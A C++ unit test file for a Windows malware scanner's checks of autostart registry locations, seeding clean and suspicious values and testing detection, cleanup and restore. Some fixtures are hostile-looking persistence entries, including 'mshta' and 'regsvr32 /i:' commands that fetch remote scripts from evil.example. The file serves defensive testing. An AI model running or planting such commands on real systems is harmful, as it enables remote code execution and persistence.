// Single autostart values beyond the eight checks: what a clean Windows holds
// there is passed over, anything else asked about; CLEAN deletes, empties or
// resets the value as Windows has it, and the restore puts it back.
#include <gtest/gtest.h>

#include "frame/FormMain.h"
#include "syscheck/Detection.h"
#include "syscheck/ModuleBackup.h"
#include "syscheck/checks/ModuleValuePlaces.h"
#include "tests/unit/CheckSupport.h"
#include "tests/unit/TestSupport.h"

namespace {

using checksupport::ReportLines;
using checksupport::StandInPrompt;
using checksupport::Stored;
using checksupport::WideBytes;

const wchar_t kSessionManager[] = L"SYSTEM\\CurrentControlSet\\Control\\Session Manager";
const wchar_t kIfeo[] = L"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options";
const wchar_t kExit[] = L"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit";
const wchar_t kCmd[] = L"Software\\Microsoft\\Command Processor";
const wchar_t kWinlogon[] = L"Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
const wchar_t kRdpwd[] = L"SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\Wds\\rdpwd";
const wchar_t kNotify[] = L"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Notify";
const wchar_t kRunOnceEx[] = L"Software\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001";
const wchar_t kActiveSetup[] = L"SOFTWARE\\Microsoft\\Active Setup\\Installed Components";

std::string MultiBytes(const std::wstring& text) { return WideBytes(text) + std::string(2, '\0'); }

struct Seeded {
  HKEY root;
  std::wstring key, name;
  Stored value;
};

class ValuePlaces : public checksupport::CheckTest {
 protected:
  static void RunAll() {
    for (const wchar_t* tag : {L"RROX", L"RUW", L"RCP", L"RBE", L"RACD", L"RIFEO", L"RTS", L"RWN", L"RAS"})
      ModuleValuePlaces::CheckTag(tag);
  }
};

// What a clean Windows holds in these places is no finding; each of the others is.
TEST_F(ValuePlaces, CleanWindowsEntriesPassAndEveryOtherIsAsked) {
  const Seeded clean[] = {
      {HKEY_LOCAL_MACHINE, kSessionManager, L"BootExecute", {REG_MULTI_SZ, MultiBytes(L"autocheck autochk *")}},
      {HKEY_LOCAL_MACHINE, kRdpwd, L"StartupPrograms", {REG_SZ, WideBytes(L"rdpclip")}},
      {HKEY_LOCAL_MACHINE, std::wstring(kIfeo) + L"\\zvnote.exe", L"GlobalFlag", {REG_SZ, WideBytes(L"0x200")}},
      {HKEY_CURRENT_USER, kCmd, L"AutoRun", {REG_SZ, WideBytes(L"")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kActiveSetup) + L"\\{zv-mail}",
       L"StubPath",
       {REG_EXPAND_SZ, WideBytes(L"%SystemRoot%\\system32\\notepad.exe /FirstLogon")}},
  };
  for (const Seeded& s : clean) checksupport::SetValue(s.root, s.key, s.name, s.value);
  {
    StandInPrompt prompt;
    RunAll();
  }
  EXPECT_EQ(std::vector<std::wstring>{}, ReportLines());

  const Seeded found[] = {
      {HKEY_LOCAL_MACHINE, kRunOnceEx, L"zvlib", {REG_SZ, WideBytes(L"||C:\\Users\\Public\\x.dll|DllRegisterServer")}},
      {HKEY_LOCAL_MACHINE, kRunOnceEx, L"zvcmd", {REG_SZ, WideBytes(L"mshta http://evil.example/a.hta")}},
      {HKEY_CURRENT_USER, kWinlogon, L"Shell", {REG_SZ, WideBytes(L"explorer.exe")}},
      {HKEY_LOCAL_MACHINE, kCmd, L"AutoRun", {REG_SZ, WideBytes(L"C:\\windows\\system32\\notepad.exe")}},
      {HKEY_LOCAL_MACHINE,
       kSessionManager,
       L"BootExecute",
       {REG_MULTI_SZ, WideBytes(L"autocheck autochk *") + MultiBytes(L"zvboot")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kSessionManager) + L"\\AppCertDlls",
       L"zv",
       {REG_EXPAND_SZ, WideBytes(L"%APPDATA%\\cert.dll")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kIfeo) + L"\\zvtarget.exe",
       L"Debugger",
       {REG_SZ, WideBytes(L"C:\\windows\\system32\\notepad.exe")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kExit) + L"\\zvtarget.exe",
       L"MonitorProcess",
       {REG_SZ, WideBytes(L"C:\\Users\\Public\\mon.exe")}},
      {HKEY_LOCAL_MACHINE, kRdpwd, L"StartupPrograms", {REG_SZ, WideBytes(L"rdpclip,zvstart")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kNotify) + L"\\zvnotify",
       L"DllName",
       {REG_SZ, WideBytes(L"C:\\windows\\system32\\shell32.dll")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kActiveSetup) + L"\\{zv-evil}",
       L"StubPath",
       {REG_SZ, WideBytes(L"regsvr32 /s /i:https://evil.example/a.sct scrobj.dll")}},
  };
  for (const Seeded& s : found) checksupport::SetValue(s.root, s.key, s.name, s.value);
  {
    StandInPrompt prompt;
    RunAll();
  }
  const std::wstring m = L"：发现可疑程序，可能是木马! -> ";
  EXPECT_EQ((std::vector<std::wstring>{
                L"(RROX)" + m + L"mshta http://evil.example/a.hta 跳过,未清除!",
                L"(RROX)" + m + L"||C:\\Users\\Public\\x.dll|DllRegisterServer 跳过,未清除!",
                L"(RUW)" + m + L"explorer.exe 跳过,未清除!",
                L"(RCP)" + m + L"C:\\windows\\system32\\notepad.exe 跳过,未清除!",
                L"(RBE)" + m + L"autocheck autochk * | zvboot 跳过,未清除!",
                L"(RACD)" + m + L"%APPDATA%\\cert.dll 跳过,未清除!",
                L"(RIFEO)" + m + L"C:\\windows\\system32\\notepad.exe 跳过,未清除!",
                L"(RIFEO)" + m + L"C:\\Users\\Public\\mon.exe 跳过,未清除!",
                L"(RTS)" + m + L"rdpclip,zvstart 跳过,未清除!",
                L"(RWN)" + m + L"C:\\windows\\system32\\shell32.dll 跳过,未清除!",
                L"(RAS)" + m + L"regsvr32 /s /i:https://evil.example/a.sct scrobj.dll 跳过,未清除!",
            }),
            ReportLines());
  for (const Seeded& s : found) checksupport::DeleteValue(s.root, s.key, s.name);
  for (const Seeded& s : clean) checksupport::DeleteValue(s.root, s.key, s.name);
}

// CLEAN deletes, empties (keeping the type) or resets to what Windows puts there;
// every change comes back with the restore.
TEST_F(ValuePlaces, CleanChangesAsWindowsHasItAndTheRestoreUndoesIt) {
  struct Case {
    const wchar_t* tag;
    Seeded seeded;
    bool present;  // after CLEAN
    Stored after;
  } cases[] = {
      {L"RUW", {HKEY_CURRENT_USER, kWinlogon, L"Userinit", {REG_SZ, WideBytes(L"C:\\x\\u.exe")}}, false, {}},
      {L"RCP",
       {HKEY_CURRENT_USER, kCmd, L"AutoRun", {REG_EXPAND_SZ, WideBytes(L"%TEMP%\\a.cmd")}},
       true,
       {REG_EXPAND_SZ, WideBytes(L"")}},
      {L"RBE",
       {HKEY_LOCAL_MACHINE, kSessionManager, L"BootExecute", {REG_MULTI_SZ, MultiBytes(L"zvnative")}},
       true,
       {REG_MULTI_SZ, MultiBytes(L"autocheck autochk *")}},
      {L"RIFEO",
       {HKEY_LOCAL_MACHINE, std::wstring(kIfeo) + L"\\zvcalc.exe", L"Debugger", {REG_SZ, WideBytes(L"cmd.exe")}},
       false,
       {}},
      {L"RWN",
       {HKEY_LOCAL_MACHINE, std::wstring(kNotify) + L"\\zvpkg", L"DllName", {REG_SZ, WideBytes(L"zvpkg.dll")}},
       false,
       {}},
      {L"RAS",
       {HKEY_LOCAL_MACHINE,
        std::wstring(kActiveSetup) + L"\\{zv-stub}",
        L"StubPath",
        {REG_SZ, WideBytes(L"%APPDATA%\\stub.exe")}},
       false,
       {}},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(testing::PrintToString(std::wstring(c.tag)));
    checksupport::ClearReport();
    for (const ModuleBackup::Backup& backup : ModuleBackup::List()) DeleteFileW(backup.file.c_str());
    const Seeded& s = c.seeded;
    checksupport::SetValue(s.root, s.key, s.name, s.value);
    {
      StandInPrompt prompt({L"CLEAN"});
      ModuleValuePlaces::CheckTag(c.tag);
    }
    ASSERT_EQ(1u, ReportLines().size());
    EXPECT_NE(std::wstring::npos, ReportLines()[0].find(L" 已清除!"));
    Stored now;
    ASSERT_EQ(c.present, checksupport::GetValue(s.root, s.key, s.name, &now));
    HKEY key = nullptr;
    bool keyStays = RegOpenKeyExW(s.root, s.key.c_str(), 0, KEY_READ, &key) == ERROR_SUCCESS;
    if (keyStays) RegCloseKey(key);
    EXPECT_EQ(std::wstring(c.tag) != L"RWN", keyStays) << "a notification package goes with its key";
    if (c.present) {
      EXPECT_EQ(c.after.type, now.type);
      EXPECT_EQ(c.after.data, now.data);
    }
    std::vector<ModuleBackup::Backup> backups = ModuleBackup::List();
    ASSERT_EQ(1u, backups.size());
    ASSERT_FALSE(backups[0].damaged);
    unsigned long error = 0;
    ASSERT_TRUE(ModuleBackup::Restore(backups[0], &error)) << error;
    ASSERT_TRUE(checksupport::GetValue(s.root, s.key, s.name, &now));
    EXPECT_EQ(s.value.type, now.type);
    EXPECT_EQ(s.value.data, now.data);
    checksupport::DeleteValue(s.root, s.key, s.name);
  }
}

// What a clean Windows 10 or 11 carries in these places, with the files it names
// (stand-ins here), raises nothing.
TEST_F(ValuePlaces, NoFindingOnWhatACleanWindowsCarries) {
  const std::wstring system = L"C:\\windows\\system32";
  const std::wstring programs = L"C:\\Program Files";
  for (const std::wstring& folder : {programs + L"\\Windows Mail"}) CreateDirectoryW(folder.c_str(), nullptr);
  for (const std::wstring& file :
       {system + L"\\unregmp2.exe", system + L"\\ie4uinit.exe", system + L"\\iesetup.dll", system + L"\\themeui.dll",
        system + L"\\mscories.dll", programs + L"\\Windows Mail\\WinMail.exe"})
    if (GetFileAttributesW(file.c_str()) == INVALID_FILE_ATTRIBUTES) testsupport::WriteFileBytes(file, "MZ");
  auto stub = [](const std::wstring& component, const std::wstring& command) {
    return Seeded{HKEY_LOCAL_MACHINE,
                  std::wstring(kActiveSetup) + L"\\" + component,
                  L"StubPath",
                  {REG_EXPAND_SZ, WideBytes(command)}};
  };
  const Seeded windows[] = {
      {HKEY_LOCAL_MACHINE, kSessionManager, L"BootExecute", {REG_MULTI_SZ, MultiBytes(L"autocheck autochk *")}},
      {HKEY_LOCAL_MACHINE, kRdpwd, L"StartupPrograms", {REG_SZ, WideBytes(L"rdpclip")}},
      {HKEY_LOCAL_MACHINE,
       L"SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp",
       L"InitialProgram",
       {REG_SZ, WideBytes(L"")}},
      {HKEY_LOCAL_MACHINE,
       std::wstring(kIfeo) + L"\\zvmitigated.exe",
       L"MitigationOptions",
       {REG_BINARY, std::string(8, '\0')}},
      stub(L"{6BF52A52-394A-11d3-B153-00C04F79FAA6}", L"%SystemRoot%\\system32\\unregmp2.exe /FirstLogon"),
      stub(L"{89820200-ECBD-11cf-8B85-00AA005B4383}", L"%systemroot%\\system32\\ie4uinit.exe -UserConfig"),
      stub(L">{26923b43-4d38-484f-9b9e-de460746276c}",
           L"\"C:\\Windows\\System32\\rundll32.exe\" \"C:\\Windows\\System32\\iesetup.dll\",IEHardenUser"),
      stub(L"{44BBA840-CC51-11CF-AAFA-00AA00B6015C}",
           L"\"%ProgramFiles%\\Windows Mail\\WinMail.exe\" OCInstallUserConfigOE"),
      stub(L"{2C7339CF-2B09-4501-B3F3-F3508C9228ED}",
           L"%SystemRoot%\\system32\\regsvr32.exe /s /n /i:/UserInstall %SystemRoot%\\system32\\themeui.dll"),
      stub(L"{89B4C1CD-B018-4511-B0A1-5476DBF70820}",
           L"C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\mscories.dll,Install"),
  };
  for (const Seeded& s : windows) checksupport::SetValue(s.root, s.key, s.name, s.value);
  {
    StandInPrompt prompt;
    RunAll();
  }
  EXPECT_EQ(std::vector<std::wstring>{}, ReportLines());
  for (const Seeded& s : windows) checksupport::DeleteValue(s.root, s.key, s.name);
}

}  // namespace
